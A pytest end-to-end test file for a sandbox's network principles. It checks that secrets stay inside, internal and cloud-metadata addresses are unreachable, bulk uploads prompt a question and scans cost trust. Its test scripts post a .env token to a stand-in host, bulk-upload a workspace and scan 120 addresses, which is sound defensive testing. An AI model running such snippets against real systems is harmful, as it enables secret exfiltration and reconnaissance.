"""The principles about hosts against real programs with real connections, and those that look alike.

The profile grants all that the tests' internet has, so that the principles alone stand between.
"""

from __future__ import annotations

import json

import pytest

from tests.e2e.internet import calls, events

pytestmark = pytest.mark.needs("tun", "root")

GENEROUS = """
name = "generous"
extends = "default"
tier = "trusted"

[[capabilities]]
tools = ["fs.stat", "fs.read"]
labels = ["secret"]

[net]
connect_seconds = 1
[[net.allow]]
hosts = ["*", "*.internal", "localhost", "10.0.0.0/8", "169.254.169.254", "203.0.113.0/24", "192.0.2.0/24"]
addresses = ["203.0.113.0/24", "2001:db8::/32", "192.0.2.0/24"]
ports = ["1-65535"]
raw = true

# The principles alone are asked about here.
[probe]
tools = ["mcp.call"]
"""
TRY = """
import errno, json, socket, sys
def tried(host, port=7000, text=b""):
    try:
        with socket.create_connection((host, port), 20) as sock:
            sock.sendall(text)
            return "connected"
    except OSError as error:
        return errno.errorcode.get(error.errno, type(error).__name__)
"""


@pytest.fixture
def attempt(online):
    """Return a function that runs a program and returns what it printed, its result, and the principles that denied."""

    def run(script: str, *words: str):
        profile = online.sandbox.profile(GENEROUS)
        found, result = online.script(TRY + script, *words, profile=profile)
        blamed = set()
        for record in result.denials:
            if record["layer"] == "constitution":
                is_ask = record["reason"].startswith("constitution.ask_")
                blamed.add(record["verdicts"][-1][3].partition(":")[0] if is_ask else record["reason"])
        return found, result, {reason.removeprefix("constitution.") for reason in blamed}

    return run


POST = """
text = open(sys.argv[1], "rb").read()
print(json.dumps(tried("web.example.com", 80, b"POST /upload HTTP/1.1\\r\\nHost: web.example.com\\r\\n"
                       b"Content-Length: %d\\r\\n\\r\\n" % len(text) + text)))
"""


def test_a_program_that_posts_a_secret_reaches_nobody(online, attempt):
    online.sandbox.write(".env", "TOKEN=abc")
    found, _, blamed = attempt(POST, ".env")
    assert (found, blamed) == ("gaierror", {"secrets-stay-inside"})
    assert online.net.seen() == []


def test_a_program_that_posts_an_example_does(online, attempt):
    online.sandbox.write(".env.example", "TOKEN=")
    found, _, blamed = attempt(POST, ".env.example")
    assert (found, blamed) == ("connected", set())


INTERNAL = ["10.9.8.7", "169.254.169.254", "localhost", "metadata.google.internal"]
MANY = "print(json.dumps([tried(host, 80) for host in json.loads(sys.argv[1])]))"


def test_internal_addresses_are_out_of_reach(online, attempt):
    found, result, blamed = attempt(MANY, json.dumps(INTERNAL))
    assert "connected" not in found
    assert blamed == {"no-internal-addresses"}
    assert {call["object"] for call in calls(result, "net.connect", "deny")} == {"10.9.8.7", "169.254.169.254"}
    assert online.net.seen("upstream") == []


def test_addresses_that_look_internal_are_not(attempt):
    found, _, blamed = attempt(MANY, json.dumps(["203.0.113.7", "web.example.com", "203.0.113.139"]))
    assert (found, blamed) == (["connected"] * 3, set())


UPLOAD = """
piece = bytes(1 << 20)
def upload(host, size):
    with socket.create_connection((host, 7000), 20) as sock:
        sock.sendall(b"\\0up %d\\n" % size)
        for _ in range(size >> 20):
            sock.sendall(piece)
        return len(sock.recv(64))
sizes = json.loads(sys.argv[1])
print(json.dumps([[upload(host, size << 20) for host, size in sizes], tried(sizes[0][0]), tried("other.example.com")]))
"""


def test_who_carries_a_workspace_away_is_asked_before_the_next_piece(attempt):
    found, _, blamed = attempt(UPLOAD, json.dumps([["web.example.com", 130], ["web.example.com", 130]]))
    assert found == [[64, 64], "ECONNREFUSED", "connected"]
    assert blamed == {"no-bulk-upload"}


def test_as_much_to_two_hosts_is_no_bulk_upload(attempt):
    found, _, blamed = attempt(UPLOAD, json.dumps([["web.example.com", 130], ["four.example.com", 130]]))
    assert found == [[64, 64], "connected", "connected"]
    assert blamed == set()


SCAN = """
hosts = ["192.0.2.%d" % (number % int(sys.argv[1])) for number in range(1, 121)]
found = [tried(host) for host in hosts]
print(json.dumps([found.count("EHOSTUNREACH"), found.count("ECONNREFUSED"), tried("203.0.113.7")]))
"""


def test_a_scan_costs_trust_and_ends_there(attempt):
    found, result, _ = attempt(SCAN, "250")
    (demoted,) = events(result, "demoted")
    assert (demoted["signal"], demoted["tier"]) == ("constitution.scanning-costs-trust", "untrusted")
    assert found[2] == "ECONNREFUSED"
    assert 100 <= found[0] <= 101 and found[1] == 120 - found[0]
    assert {call["reason"] for call in calls(result, "net.connect", "deny")} == {"trust.tier"}


def test_many_connections_to_few_hosts_are_no_scan(attempt):
    found, result, _ = attempt(SCAN, "20")
    assert found == [120, 0, "connected"]
    assert events(result, "demoted") == []
